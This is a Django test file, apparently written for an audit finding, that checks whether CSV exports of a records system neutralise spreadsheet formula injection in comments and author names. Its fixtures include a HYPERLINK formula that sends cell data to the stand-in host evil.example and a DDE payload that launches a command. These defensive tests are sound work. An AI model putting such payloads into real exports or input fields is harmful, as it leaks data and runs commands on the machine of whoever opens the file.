"""Issue 11, finding 5: a comment never becomes a formula in a CSV a registrar opens."""

from __future__ import annotations

import csv
import io

from django.core.files.storage import default_storage
from django.test import Client

from conftest import OrganisationWorld
from kanalvakt.records.disclosure import records_request_disclose
from kanalvakt.records.models import Registration
from kanalvakt.records.registration import registration_register
from kanalvakt.records.tests.conftest import Receive, requested

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Felaktigt beslut, det är fel.")'
AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_the_disclosure_csv_neutralises_formulas(
    overkalix: OrganisationWorld, receive: Receive
) -> None:
    item = receive(FORMULA, author=AUTHOR)
    request = requested(overkalix, item)
    disclosure = records_request_disclose(actor=overkalix.registrar, request=request)
    with default_storage.open(disclosure.csv_name, "rb") as handle:
        cells = _cells(handle.read().decode("utf-8-sig"))
    assert "'" + FORMULA in cells
    assert "'" + AUTHOR in cells
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells if cell)


def test_the_diarium_export_neutralises_formulas(
    overkalix: OrganisationWorld, receive: Receive, client: Client
) -> None:
    registration_register(
        actor=overkalix.registrar,
        registration=Registration.objects.get(item=receive(FORMULA, author=AUTHOR)),
    )
    client.force_login(overkalix.registrar)
    body = client.get("/o/overkalix/diarium/export.csv").content.decode("utf-8-sig")
    cells = _cells(body)
    assert "'" + FORMULA in cells
    assert "'" + AUTHOR in cells
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells if cell)
